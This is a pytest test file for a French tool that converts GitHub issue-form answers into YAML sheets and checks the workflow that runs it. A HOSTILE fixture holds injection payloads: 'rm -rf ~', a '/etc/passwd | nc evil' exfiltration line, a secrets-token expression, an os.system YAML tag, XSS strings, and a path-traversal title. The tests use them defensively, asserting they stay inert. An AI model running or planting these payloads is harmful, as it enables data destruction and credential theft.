"""Proposing a sheet without git: the GitHub issue form is made from the schema, and an issue body
(as GitHub renders the answers) becomes experiences/<id>.yml, checked, with a French answer."""
from __future__ import annotations

import json
import shutil

import pytest
import yaml

from conftest import ROOT, SAMPLES, copy_project, fabrique
from generator.issue_form import FORM_PATH, form_text

FORM = yaml.safe_load((ROOT / FORM_PATH).read_text(encoding="utf-8"))


def test_committed_form_equals_what_the_command_writes(tmp_path):
    assert (ROOT / FORM_PATH).read_text(encoding="utf-8") == form_text(ROOT)
    assert fabrique("formulaire", "--verifier").returncode == 0
    project = copy_project(tmp_path / "projet")
    (project / ".github" / "ISSUE_TEMPLATE").mkdir(parents=True)
    (project / FORM_PATH).write_text("ancien formulaire\n", encoding="utf-8")
    stale = fabrique("--racine", str(project), "formulaire", "--verifier")
    assert stale.returncode == 1
    assert "nouvelle-fiche.yml ne correspond plus au schéma : lancez « fabrique formulaire »." in stale.stderr
    written = fabrique("--racine", str(project), "formulaire")
    assert written.returncode == 0 and (project / FORM_PATH).read_text(encoding="utf-8") == form_text(ROOT)


def test_form_is_a_valid_french_issue_form():
    assert FORM["labels"] == ["nouvelle-fiche"]
    elements = [e for e in FORM["body"] if e["type"] != "markdown"]
    labels = [e["attributes"]["label"] for e in elements]
    ids = [e["id"] for e in elements]
    assert len(set(labels)) == len(labels) and len(set(ids)) == len(ids)
    assert {e["type"] for e in elements} <= {"input", "textarea", "dropdown", "checkboxes"}
    by_label = {e["attributes"]["label"]: e for e in elements}
    # controlled lists as dropdowns and checkboxes, with the French labels of the vocabularies
    assert by_label["Où en est l'expérience"]["type"] == "dropdown"
    assert by_label["Où en est l'expérience"]["attributes"]["options"] == ["En projet", "En cours", "Terminée", "Pérennisée"]
    assert "Gironde (33)" in by_label["Département"]["attributes"]["options"]
    assert len(by_label["Département"]["attributes"]["options"]) == 101
    assert by_label["Thèmes"]["type"] == "checkboxes"
    assert {"label": "Bien-vieillir"} in by_label["Thèmes"]["attributes"]["options"]
    assert by_label["Figures du CCAS de 2050"]["type"] == "checkboxes"
    # help texts come from the schema's descriptions, without what only a YAML editor needs
    assert by_label["Contexte"]["attributes"]["description"].startswith("Le contexte : le besoin repéré")
    assert all("Valeurs possibles" not in e["attributes"].get("description", "") for e in elements)
    # every section of a contributed sheet stays required
    for label in ("Titre de l'expérience", "Contexte", "Objectifs", "Enseignements pour un autre territoire", "Département"):
        assert by_label[label]["validations"]["required"] is True
    assert "validations" not in by_label["Date de fin"]


def render_body(answers: dict[str, str | list[str]]) -> str:
    """An issue body as GitHub writes it from the form: « ### Label », the answer or « _No response_ »,
    checkboxes as « - [X] » / « - [ ] » lines."""
    parts = []
    for element in FORM["body"]:
        if element["type"] == "markdown":
            continue
        label = element["attributes"]["label"]
        answer = answers.get(label)
        if element["type"] == "checkboxes":
            chosen = answer or []
            text = "\n".join(f"- [{'X' if o['label'] in chosen else ' '}] {o['label']}" for o in element["attributes"]["options"])
        else:
            text = answer if answer else "_No response_"
        parts.append(f"### {label}\n\n{text}")
    return "\n\n".join(parts) + "\n"


# A CCAS agent's answers, with the usual mistakes: a date written the French way, a budget with a
# space and a euro sign (accepted), a phone number in free text, a chapô too short, no theme ticked.
AGENT = {
    "Titre de l'expérience": "Le bus des droits",
    "L'expérience en deux ou trois phrases": "Un bus.",
    "Type de structure": "CCAS",
    "Nom de la structure": "CCAS de Montreuil-Exemple",
    "Commune": "Montreuil-Exemple",
    "Département": "Seine-Saint-Denis (93)",
    "Population du territoire": "De 50 000 à 100 000 habitants",
    "Thèmes": [],
    "Publics": ["Personnes âgées", "Personnes isolées"],
    "Figures du CCAS de 2050": ["Le CCAS radar"],
    "Pourquoi ces figures ?": "Le bus va au-devant des personnes que personne ne voit.",
    "Où en est l'expérience": "En cours",
    "Date de début": "01/09/2021",
    "Contexte": "Beaucoup d'habitants des hameaux ne viennent jamais au CCAS.",
    "Objectifs": "- Aller vers les personnes isolées\n- Ouvrir les droits non demandés",
    "Déroulement": "Le bus passe chaque semaine dans six hameaux. Appelez Mme Martin au 06 12 34 56 78.",
    "Moyens humains": "Deux travailleuses sociales et un chauffeur.",
    "Moyens financiers": "CCAS et conférence des financeurs.",
    "Budget total en euros": "45 000 €",
    "Partenaires": "CAF\nCPAM\nMSA",
    "Résultats et évaluation": "300 personnes rencontrées la première année.",
    "Difficultés": "Trouver un chauffeur.",
    "Enseignements pour un autre territoire": "1. Passer toujours au même endroit, à la même heure",
    "Perspectives": "Un second bus en 2026.",
    "Service à contacter": "Pôle accès aux droits",
    "Adresse postale de la structure": "1 place de la Mairie, 93100 Montreuil-Exemple",
    "Licence du texte": "Creative Commons Attribution 4.0",
}
FIXED = {
    **AGENT,
    "L'expérience en deux ou trois phrases": "Un bus qui va de hameau en hameau pour ouvrir les droits des habitants isolés.",
    "Thèmes": ["Accès aux droits", "Bien-vieillir"],
    "Date de début": "2021-09-01",
    "Déroulement": "Le bus passe chaque semaine dans six hameaux, avec une permanence d'une demi-journée.",
}


def run_ticket(project, body: str, number: int = 42):
    (project / "corps.md").write_text(body, encoding="utf-8")
    return fabrique("--racine", str(project), "ticket", "--corps", str(project / "corps.md"), "--numero", str(number),
                    "--commentaire", str(project / "commentaire.md"))


def test_agent_body_gives_a_sheet_and_a_french_answer_listing_the_mistakes(tmp_path):
    project = copy_project(tmp_path / "projet")
    result = run_ticket(project, render_body(AGENT))
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    sheet = project / "experiences" / "le-bus-des-droits.yml"
    data = yaml.safe_load(sheet.read_text(encoding="utf-8"))
    assert data["structure"]["departement"] == "93"
    assert data["moyens"]["budget"] == 45000
    assert data["objectifs"] == ["Aller vers les personnes isolées", "Ouvrir les droits non demandés"]
    assert data["partenaires"] == ["CAF", "CPAM", "MSA"]
    assert data["publics"] == ["personnes-agees", "personnes-isolees"]
    assert data["figures"][0]["id"] == "radar"
    comment = (project / "commentaire.md").read_text(encoding="utf-8")
    assert comment.startswith("Merci pour cette fiche ! La vérification a trouvé 3 points à corriger.")
    assert "- **L'expérience en deux ou trois phrases** : « chapo » est trop court (7 caractères, 20 au moins)." in comment
    assert "- **Thèmes** : « themes » doit compter au moins 1 élément ; il en a 0." in comment
    assert "- **Date de début** : « dates, debut »" in comment
    assert "- **Déroulement** : avertissement : « description » semble contenir un numéro de téléphone" in comment


def test_fixed_body_passes_the_check_and_builds(tmp_path):
    project = copy_project(tmp_path / "projet")
    result = run_ticket(project, render_body(FIXED))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Fiche écrite : experiences/le-bus-des-droits.yml" in result.stdout
    comment = (project / "commentaire.md").read_text(encoding="utf-8")
    assert comment.startswith("Merci pour cette fiche ! La vérification n'a rien trouvé à corriger")
    assert fabrique("--racine", str(project), "check").returncode == 0
    fabrique("--racine", str(project), "build", check=True)
    page = (project / "site" / "experiences" / "le-bus-des-droits" / "index.html").read_text(encoding="utf-8")
    assert "Le bus des droits" in page and "Seine-Saint-Denis (93)" in page


def test_event_file_gives_body_number_and_date(tmp_path):
    project = copy_project(tmp_path / "projet")
    event = {"action": "opened", "issue": {"number": 7, "body": render_body(FIXED), "created_at": "2025-03-04T10:00:00Z",
                                          "user": {"login": "agent-ccas"}}}
    (project / "event.json").write_text(json.dumps(event), encoding="utf-8")
    result = fabrique("--racine", str(project), "ticket", "--evenement", str(project / "event.json"))
    assert result.returncode == 0, result.stdout + result.stderr
    data = yaml.safe_load((project / "experiences" / "le-bus-des-droits.yml").read_text(encoding="utf-8"))
    assert data["publication"] == "2025-03-04"
    assert (project / "experiences" / "le-bus-des-droits.yml").read_text(encoding="utf-8").startswith(
        "# Fiche proposée avec le formulaire, ticket #7.")


def test_title_of_an_existing_sheet_gets_the_issue_number(tmp_path):
    project = copy_project(tmp_path / "projet")
    body = render_body({**FIXED, "Titre de l'expérience": "Sarcelles ville laboratoire"})
    assert run_ticket(project, body, number=12).returncode == 0
    assert (project / "experiences" / "sarcelles-ville-laboratoire-12.yml").is_file()


HOSTILE = {
    "shell": "$(rm -rf ~) `id` ; echo pwned && cat /etc/passwd | nc evil 1 > /tmp/x",
    "expression": "${{ secrets.GITHUB_TOKEN }} ${{ github.event.issue.title }}",
    "yaml": "x\nid: pirate\norigine: unccas\n--- !!python/object/apply:os.system ['id']\n&a [*a]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)> [lien](javascript:alert(1)) @equipe",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_answers_stay_inert_text(tmp_path, name):
    project = copy_project(tmp_path / "projet")
    payload = HOSTILE[name]
    answers = {**FIXED, "Contexte": payload, "Résultats et évaluation": payload, "Perspectives": payload}
    result = run_ticket(project, render_body(answers))
    assert "Traceback" not in result.stderr
    files = sorted(p.name for p in (project / "experiences").glob("*.yml"))
    assert "le-bus-des-droits.yml" in files and "pirate.yml" not in files
    data = yaml.safe_load((project / "experiences" / "le-bus-des-droits.yml").read_text(encoding="utf-8"))
    assert data["id"] == "le-bus-des-droits" and data["origine"] == "structure" and "source" not in data
    assert data["contexte"] == payload.strip()  # kept as text, exactly
    comment = (project / "commentaire.md").read_text(encoding="utf-8")
    assert "<script" not in comment and "\n@" not in comment and " @equipe" not in comment


def test_hostile_title_cannot_choose_the_path(tmp_path):
    project = copy_project(tmp_path / "projet")
    body = render_body({**FIXED, "Titre de l'expérience": "../../.github/workflows/x"})
    run_ticket(project, body)
    assert not (project / ".github").exists()
    assert (project / "experiences" / "github-workflows-x.yml").is_file()


def test_a_one_megabyte_body_is_a_clean_error(tmp_path):
    project = copy_project(tmp_path / "projet")
    before = sorted((project / "experiences").iterdir())
    result = run_ticket(project, render_body({**FIXED, "Contexte": "a" * (1024 * 1024)}))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert sorted((project / "experiences").iterdir()) == before
    comment = (project / "commentaire.md").read_text(encoding="utf-8")
    assert comment.startswith("La fiche n'a pas pu être préparée : le texte du ticket est trop long (plus de 256 Kio) : une fiche tient en quelques pages ; raccourcissez les réponses.")


def test_a_body_that_is_not_the_form_is_a_clean_error(tmp_path):
    project = copy_project(tmp_path / "projet")
    result = run_ticket(project, "Bonjour, voici notre projet : un bus.")
    assert result.returncode == 1
    assert "ce ticket ne suit pas le formulaire « Proposer une fiche d'expérience »" in result.stdout


def test_ticket_usage_error_in_french():
    result = fabrique("ticket")
    assert result.returncode == 2
    assert result.stderr.splitlines()[-1] == "Erreur d'utilisation : indiquez --evenement, ou bien --corps et --numero."


def test_samples_project_without_figures_still_gets_a_form(tmp_path):
    project = tmp_path / "projet"
    shutil.copytree(SAMPLES, project)
    assert "Le CCAS radar" in form_text(project)


WORKFLOW = ROOT / ".github" / "workflows" / "fiche-depuis-ticket.yml"


def test_workflow_keeps_the_ticket_text_out_of_shell_lines_and_asks_little():
    text = WORKFLOW.read_text(encoding="utf-8")
    workflow = yaml.safe_load(text)
    triggers = workflow[True]  # PyYAML reads the key « on » as true
    assert triggers == {"issues": {"types": ["opened", "edited"]}}
    assert workflow["permissions"] == {}
    for name, job in workflow["jobs"].items():
        assert "permissions" in job and "timeout-minutes" in job, name
        assert set(job["permissions"]) <= {"contents", "issues", "pull-requests"}
        for step in job["steps"]:
            if "run" in step:
                assert "${{" not in step["run"], (name, step["run"])  # values reach the shell through env only
            if "uses" in step:
                action, _, ref = step["uses"].partition("@")
                assert len(ref) == 40 and all(c in "0123456789abcdef" for c in ref), step["uses"]
    assert workflow["jobs"]["convertir"]["if"] == "contains(github.event.issue.labels.*.name, 'nouvelle-fiche')"
    assert workflow["jobs"]["convertir"]["permissions"] == {"contents": "read"}
    assert workflow["jobs"]["repondre"]["permissions"] == {"issues": "write"}
    assert "issue.body" not in text and "issue.title" not in text
    assert "fabrique ticket --evenement \"$GITHUB_EVENT_PATH\"" in text
    proposer = workflow["jobs"]["proposer"]["steps"][-1]
    assert proposer["uses"].startswith("peter-evans/create-pull-request@")
    assert "Closes #${{ github.event.issue.number }}" in proposer["with"]["body"]
